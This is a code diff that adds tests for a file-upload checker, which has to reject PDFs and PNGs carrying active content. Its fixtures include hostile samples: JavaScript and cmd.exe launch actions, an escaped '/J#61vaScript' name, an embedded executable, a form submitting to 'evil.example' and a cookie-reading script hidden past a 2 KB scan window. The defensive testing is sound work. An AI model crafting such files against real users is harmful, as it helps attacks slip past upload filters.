@@ -7,8 +7,10 @@ import {
   pdfHtmlPolyglot,
   pdfOfSize,
   pdfWithHtmlComment,
+  pdfWith,
   pdfWithoutPages,
   pngWithDimensions,
+  pngWithTextAfter,
   sampleJpeg,
   samplePdf,
   samplePng,
@@ -32,8 +34,8 @@ describe('judgeFile', () => {
     ['a PNG that says 0 × 0', pngWithDimensions(0, 0), { ok: false, problem: 'damaged' }],
     ['a PNG cut off inside its header', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), { ok: false, problem: 'damaged' }],
     ['JPEG magic bytes without a frame', jpegWithoutFrame(), { ok: false, problem: 'damaged' }],
-    ['a PDF/HTML polyglot (%PDF- then a web page)', pdfHtmlPolyglot(), { ok: false, problem: 'type' }],
-    ['a valid PDF with a web page in a comment', pdfWithHtmlComment(), { ok: false, problem: 'type' }],
+    ['a PDF/HTML polyglot (%PDF- then a web page)', pdfHtmlPolyglot(), { ok: false, problem: 'activeContent' }],
+    ['a valid PDF with a web page in a comment', pdfWithHtmlComment(), { ok: false, problem: 'activeContent' }],
     ['%PDF- and nothing else', Buffer.from('%PDF-1.7\n%%EOF\n'), { ok: false, problem: 'damaged' }],
     ['a PDF without pages', pdfWithoutPages(), { ok: false, problem: 'damaged' }],
   ])('%s', async (_name, bytes, verdict) => {
@@ -42,6 +44,46 @@ describe('judgeFile', () => {
 
   it('counts the real size when the bytes were cut at the limit', async () => {
     expect(await judgeFile(samplePdf(), MAX_FILE_BYTES + 1)).toEqual({ ok: false, problem: 'size' });
+  });
+});
+
+describe('judgeFile refuses active content', () => {
+  const activeContent = { ok: false, problem: 'activeContent' };
+  const pdf = { ok: true, contentType: 'application/pdf' };
+  const script = '<script>alert(document.cookie)</script>';
+  it.each([
+    ['an OpenAction running JavaScript', pdfWith({ catalog: '/OpenAction 5 0 R', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }), activeContent],
+    ['an OpenAction launching a program, inline', pdfWith({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), activeContent],
+    [
+      'a document-level JavaScript name tree',
+      pdfWith({ catalog: '/Names << /JavaScript 5 0 R >>', objects: ['<< /Names [(init) 6 0 R] >>', '<< /S /JavaScript /JS (this.print()) >>'] }),
+      activeContent,
+    ],
+    ['JavaScript named with #xx escapes (/J#61vaScript)', pdfWith({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }), activeContent],
+    [
+      'an embedded file',
+      pdfWith({
+        catalog: '/Names << /EmbeddedFiles 5 0 R >>',
+        objects: [
+          '<< /Names [(a.exe) 6 0 R] >>',
+          '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
+          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
+        ],
+      }),
+      activeContent,
+    ],
+    ['a page whose opening (/AA) submits a form', pdfWith({ catalog: '/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>' }), activeContent],
+    ['an OpenAction that only opens the first page', pdfWith({ catalog: '/OpenAction [3 0 R /Fit]' }), pdf],
+    ['a link to a web address (URI action)', pdfWith({ catalog: '/OpenAction << /S /URI /URI (https://www.example.se) >>' }), pdf],
+    ['a PDF with a script in a comment after its first 2 KB', pdfWith({ objects: [`<< /Length 0 >>\n%${' '.repeat(2048)}${script}`] }), activeContent],
+    ['a PNG with a script in a text chunk after its first 2 KB', pngWithTextAfter(2048, script), activeContent],
+    ['a PNG with harmless text after 2 KB', pngWithTextAfter(2048, 'Scanned 2026-11-24, 1 < 2'), { ok: true, contentType: 'image/png' }],
+  ])('%s', async (_name, bytes, verdict) => {
+    expect(await judgeFile(bytes)).toEqual(verdict);
+  });
+
+  it('a clean PDF of the largest size is accepted (the whole file is read for markup)', async () => {
+    expect(await judgeFile(pdfOfSize(MAX_FILE_BYTES))).toEqual({ ok: true, contentType: 'application/pdf' });
   });
 });
 
